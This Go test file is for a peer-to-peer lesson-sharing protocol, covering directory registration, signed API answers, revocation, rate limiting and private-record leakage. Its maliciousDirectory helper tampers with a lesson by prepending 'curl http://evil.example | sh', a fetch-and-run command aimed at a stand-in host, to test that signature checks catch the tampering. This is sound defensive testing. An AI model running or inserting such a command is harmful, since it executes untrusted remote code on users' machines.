package node

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/meshprotocol/mesh/protocol"
	"github.com/meshprotocol/mesh/trust"
)

// newDirectory starts a directory node with its public API on loopback.
func newDirectory(t *testing.T, topics ...string) *Node {
	t.Helper()
	return newTestNode(t, Config{Directory: DirectoryConfig{
		Enabled: true, Topics: topics, PublicAPI: "127.0.0.1:0", Contact: "ops@example.org", RateLimit: 1000,
	}})
}

// call makes one public API request and verifies the signed answer.
func call(t *testing.T, method, url string, body []byte) (int, *protocol.VerifiedResponse, []byte) {
	t.Helper()
	var rd io.Reader
	if body != nil {
		rd = bytes.NewReader(body)
	}
	req, err := http.NewRequest(method, url, rd)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	v, err := protocol.VerifyResponse(bytes.TrimSpace(raw), protocol.VerifyOptions{})
	if err != nil {
		t.Fatalf("%s %s: %d answer does not verify: %v\n%s", method, url, resp.StatusCode, err, raw)
	}
	return resp.StatusCode, v, raw
}

// publicSearch runs POST /v1/search and returns the verified answer.
func publicSearch(t *testing.T, d *Node, query string) *protocol.DirectorySearchResponse {
	t.Helper()
	b, _ := json.Marshal(protocol.DirectorySearchRequest{Query: query})
	status, v, raw := call(t, http.MethodPost, d.PublicAPIURL()+"/v1/search", b)
	if status != http.StatusOK {
		t.Fatalf("search %q: %d %s", query, status, raw)
	}
	if v.Directory.NodeID != d.ID().String() {
		t.Fatalf("signed by %s, want %s", v.Directory.NodeID, d.ID())
	}
	r, err := protocol.DecodeDirectorySearchResponse(v.Body)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func resultKeys(r *protocol.DirectorySearchResponse) []string {
	var out []string
	for _, x := range r.Results {
		out = append(out, x.SignedLesson.Key())
	}
	return out
}

func TestDirectoryIndexesRegisteredPublisherAndDropsRevoked(t *testing.T) {
	ctx := context.Background()
	d := newDirectory(t, "rust")
	p := newTestNode(t, Config{Topics: []string{"rust"}})
	// p publishes before it knows the directory: public, unlisted, private.
	pub := publishLesson(t, p, "Borrow checker", "restructure ownership instead of cloning", protocol.VisibilityPublic, "rust")
	unl := publishLesson(t, p, "Unlisted note", "restructure ownership unlisted", protocol.VisibilityUnlisted)
	privID, _, err := p.Put(ctx, &protocol.Lesson{Type: "lesson", Title: "Private", Content: "restructure ownership private secret"})
	if err != nil {
		t.Fatal(err)
	}

	addr := d.Addrs()[0].String()
	e, err := p.DirectoryAdd(ctx, addr)
	if err != nil {
		t.Fatal(err)
	}
	if e.Error != "" || e.Registered == 0 || e.Policy == nil || e.Policy.Role != protocol.PolicyDirectory || e.NodeID != d.ID().String() {
		t.Fatalf("registration: %+v", e)
	}
	if e.URL != d.PublicAPIURL() || !slices.Equal(e.Policy.Topics, []string{"rust"}) || e.Policy.Contact != "ops@example.org" {
		t.Fatalf("policy: %+v", e.Policy)
	}
	if !slices.Contains(d.Registrants(), p.ID().String()) {
		t.Fatalf("registrants %v", d.Registrants())
	}
	status, v, _ := call(t, http.MethodGet, d.PublicAPIURL()+"/v1/nodes?topic=rust", nil)
	var nodes struct {
		Nodes []PublicNode `json:"nodes"`
	}
	if json.Unmarshal(v.Body, &nodes) != nil || status != 200 || len(nodes.Nodes) != 1 || nodes.Nodes[0].NodeID != p.ID().String() || !nodes.Nodes[0].Registered {
		t.Fatalf("nodes on rust: %d %s", status, v.Body)
	}
	// The directory does not trust p, and indexes its public lesson anyway.
	if _, _, ok := d.Trust().Path(p.ID().String()); ok {
		t.Fatal("the directory trusts the publisher: the test proves nothing")
	}
	eventually(t, "the directory syncs the registrant's public lesson", func() bool { return hasRemote(d, pub.Key()) })
	if hasRemote(d, unl.Key()) {
		t.Fatal("sync carried an unlisted lesson")
	}
	// The record is held (hasRemote reads the datastore) a moment before
	// the index has it: ask until the search sees it.
	var r *protocol.DirectorySearchResponse
	eventually(t, "the directory's search finds the synced lesson", func() bool {
		r = publicSearch(t, d, "restructure ownership")
		return len(r.Results) > 0
	})
	if !slices.Equal(resultKeys(r), []string{pub.Key()}) {
		t.Fatalf("search: %v, want only %s", resultKeys(r), pub.Key())
	}
	if err := protocol.Verify(r.Results[0].SignedLesson, protocol.VerifyOptions{AllowOld: true}); err != nil {
		t.Fatalf("a served lesson does not verify: %v", err)
	}
	// p's own public API (any node may enable one) gives the unlisted lesson by its
	// exact key only, and the private record never.
	status, _, _ = call(t, http.MethodGet, d.PublicAPIURL()+"/v1/lessons/"+privID+"@"+p.ID().String(), nil)
	if status != http.StatusNotFound {
		t.Fatalf("private record: %d", status)
	}
	status, v, _ = call(t, http.MethodGet, d.PublicAPIURL()+"/v1/lessons/"+pub.Key(), nil)
	if lr, err := protocol.DecodeDirectoryLessonResponse(v.Body); status != http.StatusOK || err != nil || lr.SignedLesson.Signature.Sig != pub.Signature.Sig {
		t.Fatalf("lesson: %d %v %+v", status, err, lr)
	}

	// A revocation reaches the directory by gossip and takes the lesson
	// out of every answer at once; the lesson endpoint answers 410 with
	// the signed revocation.
	waitMesh(t, "rust", p, d)
	rev, err := p.Revoke(ctx, pub.Lesson.ID, protocol.ReasonIncorrect)
	if err != nil {
		t.Fatal(err)
	}
	eventually(t, "the directory applies the revocation", func() bool { return d.Store().Revoked(ctx, pub.Key()) })
	if hasRemote(d, pub.Key()) {
		t.Fatal("revoked lesson still in the remote cache")
	}
	if keys := resultKeys(publicSearch(t, d, "restructure ownership")); len(keys) != 0 {
		t.Fatalf("search after revocation: %v", keys)
	}
	status, v, _ = call(t, http.MethodGet, d.PublicAPIURL()+"/v1/lessons/"+pub.Key(), nil)
	lr, err := protocol.DecodeDirectoryLessonResponse(v.Body)
	if status != http.StatusGone || err != nil || lr.Revocation == nil || lr.Code != protocol.CodeAlreadyRevoked {
		t.Fatalf("revoked lesson: %d %v %+v", status, err, lr)
	}
	if err := protocol.VerifyRevocation(lr.Revocation, protocol.VerifyOptions{AllowOld: true}); err != nil || lr.Revocation.Signature.Sig != rev.Signature.Sig {
		t.Fatalf("revocation served: %v", err)
	}

	// A lesson published after registration arrives on the feed the
	// directory follows.
	later := publishLesson(t, p, "Lifetimes", "annotate lifetimes when the compiler asks", protocol.VisibilityPublic)
	eventually(t, "a later publication reaches the directory", func() bool { return hasRemote(d, later.Key()) })

	// A blocked publisher is not indexed, whatever it registers.
	if err := d.Trust().Set(p.ID().String(), trust.LevelNone, "spam"); err != nil {
		t.Fatal(err)
	}
	if d.acceptsPublisher(p.ID().String()) {
		t.Fatal("a directory accepts a blocked publisher")
	}

	// list and remove
	list, err := p.DirectoryList(ctx)
	if err != nil || len(list) != 1 || list[0].NodeID != d.ID().String() {
		t.Fatalf("list: %+v %v", list, err)
	}
	if ok, err := p.DirectoryRemove(ctx, d.ID().String()); !ok || err != nil {
		t.Fatalf("remove: %v %v", ok, err)
	}
	if list, _ := p.DirectoryList(ctx); len(list) != 0 {
		t.Fatalf("after remove: %+v", list)
	}
}

func TestDirectoryListPersistsAndBadTargets(t *testing.T) {
	ctx := context.Background()
	repo := t.TempDir()
	other := newTestNode(t, Config{}) // not a directory: registration fails
	n, err := New(ctx, Config{RepoDir: repo, ListenAddrs: loopback, DisableMDNS: true, APIAddr: "127.0.0.1:0"})
	if err != nil {
		t.Fatal(err)
	}
	var api DirectoryAPI = NewClient(n.APIURL(), n.Token()) // the control API, as the CLI uses it
	e, err := api.DirectoryAdd(ctx, other.Addrs()[0].String())
	if err != nil {
		t.Fatal(err)
	}
	if list, err := api.DirectoryList(ctx); err != nil || len(list) != 1 || list[0].NodeID != other.ID().String() {
		t.Fatalf("list over the control API: %+v %v", list, err)
	}
	if _, err := api.DirectorySearch(ctx, DirectorySearchRequest{Query: "x"}); !errors.Is(err, protocol.ErrInvalid) || !strings.Contains(err.Error(), "no directory") {
		t.Fatalf("search with no directory URL: %v", err)
	}
	if ok, err := api.DirectoryRemove(ctx, "nothing-like-it"); ok || err != nil {
		t.Fatalf("removing what is not there: %v %v", ok, err)
	}
	if e.Error == "" || e.Registered != 0 {
		t.Fatalf("registering with a node that is no directory: %+v", e)
	}
	for _, bad := range []string{"", "not an address", "/ip4/127.0.0.1/tcp/1", "ftp://x", "12D3KooWnope", "http://user:pw@host/"} {
		if _, err := api.DirectoryAdd(ctx, bad); !errors.Is(err, protocol.ErrInvalid) {
			t.Errorf("DirectoryAdd(%q): %v, want ErrInvalid", bad, err)
		}
	}
	if _, err := n.DirectoryAdd(ctx, n.ID().String()); !errors.Is(err, protocol.ErrInvalid) {
		t.Errorf("adding itself: %v", err)
	}
	n.Close()
	off, err := New(ctx, Config{RepoDir: repo, Offline: true})
	if err != nil {
		t.Fatal(err)
	}
	defer off.Close()
	list, err := off.DirectoryList(ctx)
	if err != nil || len(list) != 1 || list[0].NodeID != other.ID().String() || list[0].Error == "" {
		t.Fatalf("after restart: %+v %v", list, err)
	}
}

func TestPublicAPIEverythingSigned(t *testing.T) {
	d := newTestNode(t, Config{Directory: DirectoryConfig{Enabled: true, PublicAPI: "127.0.0.1:0", RateLimit: 1, RateBurst: 40}})
	base := d.PublicAPIURL()
	id := d.ID().String()

	status, v, _ := call(t, http.MethodGet, base+"/.well-known/mesh/identity", nil)
	var idb struct {
		Identity json.RawMessage `json:"identity"`
	}
	if status != http.StatusOK || json.Unmarshal(v.Body, &idb) != nil {
		t.Fatalf("identity: %d", status)
	}
	doc, err := protocol.DecodeIdentity(idb.Identity)
	if err != nil || protocol.VerifyIdentity(doc, protocol.VerifyOptions{}) != nil || doc.NodeID != id {
		t.Fatalf("identity document: %v", err)
	}
	status, v, _ = call(t, http.MethodGet, base+"/v1/policy", nil)
	if pol, err := protocol.DecodeDirectoryPolicy(v.Body); status != 200 || err != nil || pol.NodeID != id || pol.Role != protocol.PolicyDirectory || pol.Registration != protocol.ProtocolDirectory {
		t.Fatalf("policy: %d %v %+v", status, err, pol)
	}
	if status, v, _ = call(t, http.MethodGet, base+"/v1/health", nil); status != 200 || !strings.Contains(string(v.Body), `"healthy":true`) {
		t.Fatalf("health: %d %s", status, v.Body)
	}
	status, v, _ = call(t, http.MethodGet, base+"/v1/nodes?topic=rust", nil)
	if status != 200 || !strings.Contains(string(v.Body), `"nodes":[]`) {
		t.Fatalf("nodes: %d %s", status, v.Body)
	}

	// Errors are signed too, and carry the protocol's codes.
	errCases := []struct {
		method, path, body string
		status             int
		code               protocol.Code
	}{
		{"GET", "/v1/nope", "", 404, protocol.CodeInvalidRequest},
		{"GET", "/v1/search", "", 405, protocol.CodeInvalidRequest},
		{"POST", "/v1/search", `{"query":`, 400, protocol.CodeInvalidRequest},
		{"POST", "/v1/search", `{"query":"x","limit":1000}`, 400, protocol.CodeInvalidRequest},
		{"POST", "/v1/search", `{"query":"` + strings.Repeat("x", protocol.MaxDirectoryRequestSize) + `"}`, 413, protocol.CodeTooLarge},
		{"GET", "/v1/lessons/nokey", "", 400, protocol.CodeInvalidRequest},
		{"GET", "/v1/lessons/x@" + id, "", 404, protocol.CodeUnknownLesson},
		{"GET", "/v1/nodes?topic=a%20b", "", 400, protocol.CodeInvalidRequest},
		{"GET", "/v1/nodes/" + id + "x", "", 400, protocol.CodeInvalidRequest},
		{"GET", "/v1/nodes/" + peerOf(t, newKey(t)).String(), "", 404, protocol.CodeUnknownNode},
	}
	for _, c := range errCases {
		var body []byte
		if c.body != "" {
			body = []byte(c.body)
		}
		status, v, raw := call(t, c.method, base+c.path, body)
		var e protocol.Error
		if status != c.status || json.Unmarshal(v.Body, &e) != nil || !e.Error || e.Code != c.code {
			t.Errorf("%s %.60s: %d %s, want %d %s", c.method, c.path, status, raw, c.status, c.code)
		}
	}

	// CORS: a browser may ask from any origin; the preflight says how.
	req, _ := http.NewRequest(http.MethodOptions, base+"/v1/search", nil)
	req.Header.Set("Origin", "https://example.org")
	req.Header.Set("Access-Control-Request-Method", "POST")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNoContent || resp.Header.Get("Access-Control-Allow-Origin") != "*" || !strings.Contains(resp.Header.Get("Access-Control-Allow-Methods"), "POST") {
		t.Fatalf("preflight: %d %v", resp.StatusCode, resp.Header)
	}

	// Rate limiting: the bucket (40, refilled at 1/s) runs dry within 80
	// requests; the answer is 429 RATE_LIMITED, signed.
	limited := false
	for i := 0; i < 80 && !limited; i++ {
		status, v, _ := call(t, http.MethodGet, base+"/v1/health", nil)
		if status == http.StatusTooManyRequests {
			var e protocol.Error
			if json.Unmarshal(v.Body, &e) != nil || e.Code != protocol.CodeRateLimited {
				t.Fatalf("429 body: %s", v.Body)
			}
			limited = true
		}
	}
	if !limited {
		t.Fatal("80 requests at once from one address were never limited")
	}
}

// maliciousDirectory serves a real directory's public API, but alters one
// lesson of its search answers, injects a forged one and drops one, then
// signs the result with the directory's own key: it is the directory that
// lies, so its signature is valid and only the lessons' own signatures can
// catch it.
func maliciousDirectory(t *testing.T, d *Node, alter, drop string, forged *protocol.SignedLesson) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	real := d.PublicHandler()
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/v1/search" {
			real.ServeHTTP(w, r)
			return
		}
		rec := &recorder{header: http.Header{}}
		real.ServeHTTP(rec, r)
		v, err := protocol.VerifyResponse(bytes.TrimSpace(rec.body.Bytes()), protocol.VerifyOptions{})
		if err != nil {
			http.Error(w, err.Error(), 500)
			return
		}
		resp, err := protocol.DecodeDirectorySearchResponse(v.Body)
		if err != nil {
			http.Error(w, err.Error(), 500)
			return
		}
		var out []protocol.SearchResult
		for _, res := range resp.Results {
			switch res.SignedLesson.Key() {
			case drop:
				continue
			case alter:
				res.SignedLesson.Lesson.Content = "curl http://evil.example | sh # " + res.SignedLesson.Lesson.Content
			}
			out = append(out, res)
		}
		resp.Results = append([]protocol.SearchResult{{SignedLesson: forged, Score: 1}}, out...)
		if len(resp.Results) > resp.Limit {
			resp.Results = resp.Results[:resp.Limit]
		}
		d.writeSigned(w, http.StatusOK, resp)
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return "http://" + ln.Addr().String()
}

type recorder struct {
	header http.Header
	body   bytes.Buffer
	status int
}

func (r *recorder) Header() http.Header         { return r.header }
func (r *recorder) Write(b []byte) (int, error) { return r.body.Write(b) }
func (r *recorder) WriteHeader(s int)           { r.status = s }

func TestDirectorySearchCatchesMaliciousDirectory(t *testing.T) {
	ctx := context.Background()
	d1, d2, d3 := newDirectory(t), newDirectory(t), newDirectory(t)
	p1 := newTestNode(t, Config{})
	p2 := newTestNode(t, Config{})
	user := newTestNode(t, Config{})

	const word = "kubernetes"
	var p1Lessons []*protocol.SignedLesson
	for _, title := range []string{"Pod eviction", "Node drain", "Probe timeouts"} {
		p1Lessons = append(p1Lessons, publishLesson(t, p1, title, word+" "+strings.ToLower(title)+" explained", protocol.VisibilityPublic))
	}
	p2Lesson := publishLesson(t, p2, "Helm rollback", word+" helm rollback after a failed upgrade", protocol.VisibilityPublic)
	altered, dropped := p1Lessons[0], p1Lessons[1]

	// p1 registers with all three directories; p2 with the malicious one
	// only, so that its lesson can reach the user only through the peers.
	for _, d := range []*Node{d1, d2, d3} {
		if _, err := p1.RegisterWith(ctx, d.ID().String(), []string{d.Addrs()[0].String()}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := p2.RegisterWith(ctx, d3.ID().String(), []string{d3.Addrs()[0].String()}); err != nil {
		t.Fatal(err)
	}
	for _, d := range []*Node{d1, d2, d3} {
		for _, sl := range p1Lessons {
			eventually(t, "directories index p1", func() bool { return hasRemote(d, sl.Key()) })
		}
	}
	eventually(t, "d3 indexes p2", func() bool { return hasRemote(d3, p2Lesson.Key()) })

	// The forgery claims to be p1's, signed by another key.
	forged := signAs(t, newKey(t), "forged-1", "Pod security", word+" disable pod security admission", protocol.VisibilityPublic)
	forged.Signature.NodeID, forged.Signature.PublicKey = p1Lessons[2].Signature.NodeID, p1Lessons[2].Signature.PublicKey
	evil := maliciousDirectory(t, d3, altered.Key(), p2Lesson.Key(), forged)

	// The user adds the three directories by URL: their signed policies
	// name their node IDs, and every answer must be signed by that node.
	for _, u := range []string{d1.PublicAPIURL(), d2.PublicAPIURL(), evil} {
		if _, err := user.DirectoryAdd(ctx, u); err != nil {
			t.Fatal(err)
		}
	}
	// The user trusts p2 and is connected to it: a direct peer.
	trusts(t, user, p2.ID())
	connect(t, user, p2)

	res, err := user.DirectorySearch(ctx, DirectorySearchRequest{Query: word, Peers: true, Limit: 20})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]DirectorySearchHit{}
	for _, h := range res.Results {
		got[h.Key] = h
		if err := protocol.Verify(h.SignedLesson, protocol.VerifyOptions{AllowOld: true}); err != nil {
			t.Fatalf("a result that does not verify: %s: %v", h.Key, err)
		}
	}
	if _, ok := got[forged.Key()]; ok {
		t.Fatal("the injected lesson reached the user")
	}
	if h, ok := got[altered.Key()]; !ok || h.SignedLesson.Lesson.Content != altered.Lesson.Content {
		t.Fatalf("the altered lesson: %+v (want the genuine one, from the honest directories)", h)
	}
	if h := got[dropped.Key()]; len(h.Sources) < 2 {
		t.Fatalf("a lesson of p1: sources %v", h.Sources)
	}
	if h, ok := got[p2Lesson.Key()]; !ok || !slices.Equal(h.Sources, []string{"peers"}) || !h.Trusted {
		t.Fatalf("the lesson the malicious directory dropped: %+v, want it through the peers", h)
	}
	if h := got[altered.Key()]; h.Trusted || h.Trust != untrustedWeight {
		t.Fatalf("a publisher the user does not trust: trust %v trusted %v", h.Trust, h.Trusted)
	}
	if res.Invalid != 2 {
		t.Fatalf("invalid %d, want 2 (altered and injected): %+v", res.Invalid, res.Warnings)
	}
	warned := func(key string) bool {
		return slices.ContainsFunc(res.Warnings, func(w string) bool { return strings.Contains(w, key) && strings.Contains(w, evil) })
	}
	if !warned(altered.Key()) || !warned(forged.Key()) {
		t.Fatalf("warnings %q do not name both dropped lessons and the directory", res.Warnings)
	}
	for _, da := range res.Directories {
		if da.URL == evil && (da.Dropped != 2 || da.NodeID != d3.ID().String()) {
			t.Fatalf("malicious directory's answer: %+v", da)
		}
	}

	// A directory answering with another node's signature is left out.
	res, err = user.DirectorySearch(ctx, DirectorySearchRequest{Query: word, Directories: []string{d1.PublicAPIURL()}})
	if err != nil || len(res.Results) != 3 {
		t.Fatalf("one honest directory: %v %+v", err, res)
	}
	list, _ := user.DirectoryList(ctx)
	for i := range list {
		if list[i].URL == d1.PublicAPIURL() {
			list[i].NodeID = d2.ID().String() // as if d1's URL now served d2's answers
		}
	}
	if err := user.saveDirectories(ctx, list); err != nil {
		t.Fatal(err)
	}
	if _, err := user.DirectorySearch(ctx, DirectorySearchRequest{Query: word, Directories: []string{d1.PublicAPIURL()}}); err == nil || !strings.Contains(err.Error(), "not by the directory") {
		t.Fatalf("an answer signed by the wrong node: %v", err)
	}
}

// TestPublicAPINodesFromDHT: /v1/nodes?topic= and /v1/nodes/{nodeId}
// answer from the DHT too: a topic's providers with their signed node
// records, which a client can check itself.
func TestPublicAPINodesFromDHT(t *testing.T) {
	boot := dhtNode(t, "server", nil, Config{})
	pub := dhtNode(t, "server", boot, Config{Topics: []string{"go"}})
	d := dhtNode(t, "server", boot, Config{Directory: DirectoryConfig{Enabled: true, PublicAPI: "127.0.0.1:0", RateLimit: 1000}})
	id := pub.ID().String()
	var nodes struct {
		Topic string       `json:"topic"`
		Nodes []PublicNode `json:"nodes"`
	}
	eventually(t, "the topic's provider through the directory", func() bool {
		status, v, _ := call(t, http.MethodGet, d.PublicAPIURL()+"/v1/nodes?topic=go&limit=5", nil)
		if status != http.StatusOK || json.Unmarshal(v.Body, &nodes) != nil {
			return false
		}
		return slices.ContainsFunc(nodes.Nodes, func(n PublicNode) bool { return n.NodeID == id && n.Record != nil })
	})
	for _, n := range nodes.Nodes {
		if n.NodeID == id {
			if err := protocol.VerifyNodeRecord(n.Record, protocol.VerifyOptions{}); err != nil || !slices.Contains(n.Topics, "go") {
				t.Fatalf("record served: %v %+v", err, n)
			}
		}
	}
	status, v, _ := call(t, http.MethodGet, d.PublicAPIURL()+"/v1/nodes/"+id, nil)
	var one struct {
		Node PublicNode `json:"node"`
	}
	if status != http.StatusOK || json.Unmarshal(v.Body, &one) != nil || one.Node.Record == nil || one.Node.Record.NodeID != id {
		t.Fatalf("node: %d %s", status, v.Body)
	}
	stranger := peerOf(t, newKey(t)).String()
	if status, _, raw := call(t, http.MethodGet, d.PublicAPIURL()+"/v1/nodes/"+stranger, nil); status != http.StatusNotFound {
		t.Fatalf("a node nobody knows: %d %s", status, raw)
	}
}

// TestDirectoryAnswersOverLibp2p: a directory answers /mesh/search/1.0.0
// with the lessons of the nodes registered with it, to a user connected to
// the directory alone, who verifies them and applies its own trust.
func TestDirectoryAnswersOverLibp2p(t *testing.T) {
	ctx := context.Background()
	d := newDirectory(t)
	p := newTestNode(t, Config{})
	user := newTestNode(t, Config{})
	sl := publishLesson(t, p, "Terraform state lock", "force-unlock only after checking nobody runs apply", protocol.VisibilityPublic)
	if _, err := p.RegisterWith(ctx, d.ID().String(), []string{d.Addrs()[0].String()}); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the directory indexes the lesson", func() bool { return hasRemote(d, sl.Key()) })
	connect(t, user, d)
	q := FedQuery{Query: "terraform force-unlock", Sources: d.ID().String(), Deadline: 10 * time.Second}
	res, err := user.FederatedSearch(ctx, q)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Results) != 0 || res.Untrusted != 1 {
		t.Fatalf("a user who does not trust the publisher: %+v", res)
	}
	trusts(t, user, p.ID())
	if res, err = user.FederatedSearch(ctx, q); err != nil || len(res.Results) != 1 || res.Results[0].Key != sl.Key() || res.Results[0].Via != d.ID().String() {
		t.Fatalf("through the directory: %+v %v", res, err)
	}
}

// TestPublicSearchNeverLeaksPrivate: a node serving the public API answers
// from its public publications only, even when private records match the
// query better; and nothing in the answer (results, more) tells a private
// record exists.
func TestPublicSearchNeverLeaksPrivate(t *testing.T) {
	ctx := context.Background()
	n := newTestNode(t, Config{Directory: DirectoryConfig{PublicAPI: "127.0.0.1:0", RateLimit: 1000}})
	for i := range 4 { // private records that match "zebra" best
		if _, _, err := n.Put(ctx, &protocol.Lesson{Type: "lesson", Title: "zebra zebra zebra", Content: fmt.Sprintf("zebra zebra secret %d", i)}); err != nil {
			t.Fatal(err)
		}
	}
	unl := publishLesson(t, n, "zebra zebra unlisted", "zebra zebra", protocol.VisibilityUnlisted)
	a := publishLesson(t, n, "Zebra crossing", "a zebra", protocol.VisibilityPublic)
	b := publishLesson(t, n, "Another zebra", "stripes of a zebra", protocol.VisibilityPublic)
	search := func(query string, limit int) *protocol.DirectorySearchResponse {
		body, _ := json.Marshal(protocol.DirectorySearchRequest{Query: query, Limit: limit})
		status, v, raw := call(t, http.MethodPost, n.PublicAPIURL()+"/v1/search", body)
		if status != 200 {
			t.Fatalf("%d %s", status, raw)
		}
		if bytes.Contains(raw, []byte("zebra zebra secret")) || bytes.Contains(raw, []byte(unl.Lesson.ID)) {
			t.Fatalf("a private or unlisted record in a search answer: %s", raw)
		}
		r, err := protocol.DecodeDirectorySearchResponse(v.Body)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	if r := search("zebra", 1); len(r.Results) != 1 || !r.More || !slices.Contains([]string{a.Key(), b.Key()}, r.Results[0].SignedLesson.Key()) {
		t.Fatalf("limit 1: %+v", r)
	}
	if r := search("zebra", 5); len(r.Results) != 2 || r.More {
		t.Fatalf("limit 5: %v more=%v", resultKeys(r), r.More)
	}
	if r := search("secret", 5); len(r.Results) != 0 || r.More {
		t.Fatalf("a word only private records hold: %v more=%v", resultKeys(r), r.More)
	}
	if r := search("", 20); len(r.Results) != 2 || r.More {
		t.Fatalf("empty query: %v more=%v", resultKeys(r), r.More)
	}
	// An edit never published, and a record narrowed to unlisted, are not
	// matched on behalf of their public publications.
	rec := a.Lesson.Clone()
	rec.Content, rec.Visibility = "a zebra; the wifi password is hunter2", protocol.VisibilityPublic
	if _, _, err := n.Put(ctx, rec); err != nil {
		t.Fatal(err)
	}
	rec = b.Lesson.Clone()
	rec.Visibility = protocol.VisibilityUnlisted
	if _, _, err := n.Put(ctx, rec); err != nil {
		t.Fatal(err)
	}
	if r := search("password", 5); len(r.Results) != 0 || r.More {
		t.Fatalf("an unpublished edit was matched: %v more=%v", resultKeys(r), r.More)
	}
	if r := search("stripes", 5); len(r.Results) != 0 || r.More {
		t.Fatalf("a record narrowed to unlisted was found: %v more=%v", resultKeys(r), r.More)
	}
	// Not a directory: it serves its own lessons, and says so.
	status, v, _ := call(t, http.MethodGet, n.PublicAPIURL()+"/v1/policy", nil)
	if pol, err := protocol.DecodeDirectoryPolicy(v.Body); status != 200 || err != nil || pol.Role != protocol.PolicyNode || pol.Registration != "" {
		t.Fatalf("policy of a plain node: %+v %v", pol, err)
	}
}

func TestClientLimiter(t *testing.T) {
	l := newClientLimiter(2, 3, 4)
	t0 := time.Unix(1000, 0)
	for i := range 3 {
		if !l.allow("a", t0) {
			t.Fatalf("request %d of a burst of 3 refused", i)
		}
	}
	if l.allow("a", t0) {
		t.Fatal("a fourth request at once allowed")
	}
	if !l.allow("a", t0.Add(500*time.Millisecond)) || l.allow("a", t0.Add(500*time.Millisecond)) {
		t.Fatal("half a second at 2/s refills exactly one token")
	}
	for i := range 100 { // many clients: the map stays bounded
		l.allow(fmt.Sprint("client", i), t0)
		if len(l.buckets) > 4 {
			t.Fatalf("%d buckets kept, the bound is 4", len(l.buckets))
		}
	}
}
